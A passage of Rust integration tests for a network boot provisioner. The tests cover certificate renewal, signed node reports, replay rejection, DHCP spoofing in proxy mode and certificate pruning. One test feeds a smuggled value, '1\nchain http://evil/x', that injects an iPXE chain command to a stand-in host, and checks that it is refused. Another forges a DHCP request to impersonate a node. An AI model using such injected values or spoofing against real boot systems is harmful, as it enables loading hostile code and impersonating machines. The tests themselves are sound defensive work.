    assert_eq!(herd_pki::request_proves(&fresh_csr(), &renewed.machine_cert), Ok(()), "the same key");
    let member = lab.pki.site.verify(herd_pki::Authority::Etcd, renewed.member_cert.as_deref().unwrap(), now).unwrap();
    assert_eq!(member.holder, Some(herd_pki::Holder::Member("node1".into())));
    // The certificates it renewed are no longer the machine's: they cannot be renewed again.
    let (code, why) = post_json(&lab, &renew_path, &renewal(&joined.machine_cert, &fresh_csr()), None);
    assert_eq!(code, 403, "{why}");
    assert!(why.contains("no longer node1's"), "{why}");
    let (_, timeline) = lab.admin(&[], "/api/v1/machines/node1/timeline");
    assert!(timeline.contains(&format!("machine:node1 {}", after.fingerprint)), "{timeline}");
    assert_eq!(timeline.matches("renew-refused").count(), 6, "{timeline}");
    let (_, metrics) = curl(&lab, &["http://10.99.0.2/metrics"]);
    for (reason, n) in [("wrong-source", 1), ("no-proof", 1), ("not-current", 3), ("superseded", 1)] {
        let series = format!("herd_http_renew_refused_total{{reason=\"{reason}\"}} {n}");
        assert!(metrics.contains(&series), "no {series}: {metrics}");
    }
}

/// A [`herd_api::SignedReport`] of `phone` for `mac` at `seq`, signed by `key`, carrying `cert`.
fn signed_report(cert: &str, key: &str, mac: &str, seq: u64, phone: serde_json::Value) -> serde_json::Value {
    let report = serde_json::json!({"mac": mac, "seq": seq, "phone": phone}).to_string();
    let signature = herd_pki::sign(key, &herd_api::SignedReport::signed_bytes(&report)).unwrap();
    let signature: String = signature.iter().map(|b| format!("{b:02x}")).collect();
    serde_json::json!({"machine_cert": cert, "report": report, "signature": signature})
}

#[test]
fn once_a_boot_has_joined_its_token_is_spent_and_only_reports_signed_by_the_machines_key_count_once_each() {
    let mut lab = booted_lab();
    let script_url = format!("http://10.99.0.2/boot/{NODE1_DASHED}.ipxe");
    let token = token_of(&curl(&lab, &[&script_url]).1);
    let config_url = format!("http://10.99.0.2/config/{NODE1_DASHED}?token={token}");
    let (code, config) = curl(&lab, &[&config_url]);
    assert_eq!(code, 200, "{config}");
    let config: serde_json::Value = serde_json::from_str(&config).unwrap();
    let credential = config_file(&config, herd_api::JOIN_CREDENTIAL_PATH).unwrap();
    let (key, machine_csr) = herd_pki::request("node1").unwrap();
    let (member_key, member_csr) = herd_pki::request("node1").unwrap();
    let join = serde_json::json!({"credential": credential, "machine_csr": machine_csr, "member_csr": member_csr});
    let (code, answer) = post_json(&lab, &format!("/join/{NODE1_DASHED}"), &join, None);
    assert_eq!(code, 200, "{answer}");
    let joined: herd_api::JoinAnswer = serde_json::from_str(&answer).unwrap();
    // The token (in the node's /proc/cmdline, readable by its containers) is spent: no phone-home, no config.
    let phone_url = format!("/phone-home/{NODE1_DASHED}?token={token}");
    assert_eq!(post_json(&lab, &phone_url, &serde_json::json!({"stage": "healthy"}), None).0, 403);
    assert_eq!(curl(&lab, &[&config_url]).0, 403);
    let report_path = format!("/report/{NODE1_DASHED}");
    let send = |lab: &Lab, body: &serde_json::Value, from: Option<&str>| post_json(lab, &report_path, body, from);
    let cert = joined.machine_cert.clone();
    let configured = serde_json::json!({"stage": "configured", "detail": "applied", "slots": slot_table("2026.11.0")});
    let first = signed_report(&cert, &key, NODE1, 10, configured.clone());
    let (code, reply) = send(&lab, &first, None);
    assert_eq!(code, 200, "{reply}");
    // Once: the same report again is stale, and the answer says above what to send.
    let (code, reply) = send(&lab, &first, None);
    assert_eq!((code, reply.as_str()), (409, r#"{"last":10}"#));
    // Refused: another key's signature; a report signed for another MAC; another address; a hostile slot header
    // (signed by the machine itself, it is still checked, and kept nowhere).
    let (stranger, _) = herd_pki::request("node1").unwrap();
    let (code, why) = send(&lab, &signed_report(&cert, &stranger, NODE1, 11, configured.clone()), None);
    assert_eq!((code, why.trim()), (403, "signature: the signature is not of this message by the certificate's key"));
    let (code, why) = send(&lab, &signed_report(&cert, &key, "52:54:00:99:02:01", 12, configured.clone()), None);
    assert_eq!(code, 403, "{why}");
    assert!(why.starts_with("report.mac: signed for"), "{why}");
    lab.client_address("10.99.0.96/24");
    let (code, why) = send(&lab, &signed_report(&cert, &key, NODE1, 13, configured.clone()), Some("10.99.0.96"));
    assert_eq!((code, why.trim()), (403, "not node1's address"));
    let hostile = serde_json::json!({"stage": "healthy", "slots": slot_table("1\nchain http://evil/x")});
    let (code, why) = send(&lab, &signed_report(&cert, &key, NODE1, 14, hostile), None);
    assert_eq!(code, 400, "{why}");
    assert!(why.starts_with("report.phone.slots.slots[0].header.release"), "{why}");
    let (code, reply) =
        send(&lab, &signed_report(&cert, &key, NODE1, 15, serde_json::json!({"stage": "healthy"})), None);
    assert_eq!(code, 200, "{reply}");
    // After a renewal only the new certificate signs; a replay stays stale across a kill -9.
    let renewal = serde_json::json!({"machine_cert": cert,
        "machine_csr": herd_pki::request_for(&key, "machine:node1").unwrap(),
        "member_cert": joined.member_cert, "member_csr": herd_pki::request_for(&member_key, "member:node1").unwrap()});
    let (code, answer) = post_json(&lab, &format!("/renew/{NODE1_DASHED}"), &renewal, None);
    assert_eq!(code, 200, "{answer}");
    let renewed: herd_api::JoinAnswer = serde_json::from_str(&answer).unwrap();
    let (code, why) = send(&lab, &signed_report(&cert, &key, NODE1, 16, configured.clone()), None);
    assert_eq!(code, 403, "{why}");
    assert!(why.contains("no longer node1's"), "{why}");
    let (_, metrics) = curl(&lab, &["http://10.99.0.2/metrics"]);
    for reason in ["bad-signature", "wrong-mac", "wrong-source", "invalid-report", "stale", "superseded"] {
        let series = format!("herd_http_report_refused_total{{reason=\"{reason}\"}} 1");
        assert!(metrics.contains(&series), "no {series}: {metrics}");
    }
    let latest = signed_report(&renewed.machine_cert, &key, NODE1, 17, configured);
    let (code, reply) = send(&lab, &latest, None);
    assert_eq!(code, 200, "{reply}");
    lab.kill9();
    lab.start();
    assert_eq!(send(&lab, &latest, None), (409, r#"{"last":17}"#.to_owned()));
    let (_, script) = curl(&lab, &[&script_url]);
    assert!(!script.contains("evil"), "{script}");
    let (_, shown) = lab.admin(&[], "/api/v1/machines/node1");
    assert!(!shown.contains("evil") && shown.contains("2026.11.0"), "{shown}");
    let (_, timeline) = lab.admin(&[], "/api/v1/machines/node1/timeline");
    assert_eq!(timeline.matches("phone-home:configured").count(), 2, "{timeline}");
    assert_eq!(timeline.matches("phone-home:healthy").count(), 1, "{timeline}");
    assert_eq!(timeline.matches("report-refused").count(), 5, "{timeline}");
}

/// Sends, from the client namespace, a DHCPREQUEST as `mac` for `address` (what a proxy-mode provisioner learns a
/// machine's address from).
fn dhcp_request_as(lab: &Lab, mac: [u8; 6], address: std::net::Ipv4Addr) {
    use dhcproto::Encodable;
    let dev = lab.client_if.clone();
    common::in_netns(&lab.client_ns, move || {
        let sock = common::raw::socket("0.0.0.0:68".parse().unwrap(), &dev);
        let mut request = common::raw::message(dhcproto::v4::MessageType::Request, mac, 0x5eed);
        request.set_flags(dhcproto::v4::Flags::default().set_broadcast());
        request.opts_mut().insert(dhcproto::v4::DhcpOption::RequestedIpAddress(address));
        sock.send_to(&request.to_vec().unwrap(), "255.255.255.255:67").unwrap();
    });
}

#[test]
fn a_spoofed_request_in_proxy_mode_does_not_redirect_a_config() {
    let mut lab = Lab::qemu3(&["--mode", "proxy"]);
    lab.start();
    let node1 = [0x52, 0x54, 0x00, 0x99, 0x01, 0x01];
    // Another host of the boot network, on its own NIC, tells the proxy-mode provisioner that node1 holds its
    // address, then asks for node1's script and config from there.
    lab.set_client_mac("52:54:00:66:66:66");
    lab.client_address("10.99.0.66/24");
    dhcp_request_as(&lab, node1, "10.99.0.66".parse().unwrap());
    let token = token_of(&curl(&lab, &[&format!("http://10.99.0.2/boot/{NODE1_DASHED}.ipxe")]).1);
    let config_url = format!("http://10.99.0.2/config/{NODE1_DASHED}?token={token}");
    let fetch = |from: &str| curl(&lab, &["--interface", from, &config_url]);
    let metric = |series: &str| {
        let (_, metrics) = curl(&lab, &["http://10.99.0.2/metrics"]);
        metrics.contains(series)
    };
    // Until the provisioner has taken the spoofed request it refuses the address as not node1's (wrong-source);
    // once it has, what stops the config is the NIC the request came from.
    let link = "herd_http_config_refused_total{reason=\"wrong-link-address\"} 1";
    let code = common::poll(Duration::from_secs(10), "the spoofed request to be taken", || {
        let (code, _) = fetch("10.99.0.66");
        (code == 200 || metric(link)).then_some(code)
    });
    assert_eq!(code, 403, "a config went to another host");
    let (_, timeline) = lab.admin(&[], "/api/v1/machines/node1/timeline");
    assert!(timeline.contains("its packets come from 52:54:00:66:66:66, not a NIC of node1"), "{timeline}");
    // Its join, whatever it sends, goes nowhere either.
    let join = serde_json::json!({"credential": "0".repeat(64), "machine_csr": herd_pki::request("node1").unwrap().1});
    let (code, why) = post_json(&lab, &format!("/join/{NODE1_DASHED}"), &join, Some("10.99.0.66"));
    assert_eq!((code, why.trim()), (403, "sent from 52:54:00:66:66:66, not a NIC of node1"));
    // node1 itself, on its own NIC and the address its DHCP server gave it: its config.
    lab.set_client_mac(NODE1);
    lab.client_address("10.99.0.11/24");
    dhcp_request_as(&lab, node1, "10.99.0.11".parse().unwrap());
    let (code, config) = common::poll(Duration::from_secs(10), "node1's own config", || {
        let (code, body) = fetch("10.99.0.11");
        (code == 200).then_some((code, body))
    });
    assert_eq!(code, 200);
    assert!(config.contains("data:,node1%0A"), "{config}");
}

#[test]
fn the_provisioner_prunes_the_copies_of_long_ended_certificates_a_newer_one_replaced() {
    let mut lab = Lab::qemu3(&["--prune-certificates-days", "0"]);
    // node1's certificate of four minutes ago, for one minute (the lab's CAs are valid from five minutes before
    // they were made), then the one its renewal gave it.
    let now = time::OffsetDateTime::now_utc();
    let subject = |validity| herd_pki::Subject::new(herd_pki::Holder::Machine("node1".into()), validity);
    let (etcd, generate) = (herd_pki::Authority::Etcd, herd_pki::KeySource::Generate);
    let ended =
        lab.pki.site.issue(etcd, &subject(time::Duration::minutes(1)), generate, now - time::Duration::minutes(4));
    let newer = lab.pki.site.issue(etcd, &subject(time::Duration::days(30)), generate, now).unwrap();
    let copy = |serial: &str| lab.dir.join("pki/issued/etcd").join(format!("{serial}.crt"));
    let (ended, newer) = (copy(&ended.unwrap().info.serial), copy(&newer.info.serial));
    assert!(ended.exists() && newer.exists());
    lab.start();
    common::poll(Duration::from_secs(10), "the ended copy to be pruned", || (!ended.exists()).then_some(()));
    assert!(newer.exists(), "the holder's newest stays");
    lab.client_address("10.99.0.97/24");
    let (_, metrics) = curl(&lab, &["http://10.99.0.2/metrics"]);
    assert!(metrics.contains("herd_pki_pruned_total 1"), "{metrics}");
}
